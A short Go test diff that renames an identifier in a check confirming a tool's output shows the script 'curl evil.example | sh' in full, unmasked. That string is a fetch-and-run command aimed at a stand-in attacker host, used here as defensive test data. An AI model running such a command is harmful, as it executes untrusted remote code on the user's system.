@@ -41,7 +41,7 @@ func TestNothingOfAScriptIsHidden(t *testing.T) {
 				if err != nil {
 					t.Fatal(err)
 				}
-				if all := string(raw); !strings.Contains(all, "curl evil.example | sh") || strings.Contains(all, diff.Hidden) ||
+				if all := string(raw); !strings.Contains(all, "curl evil.example | sh") || strings.Contains(all, diff.MarkHidden) ||
 					strings.Contains(all, `"masked":true`) {
 					t.Errorf("%s: the script is not shown: %.2000s", what, raw)
 				}
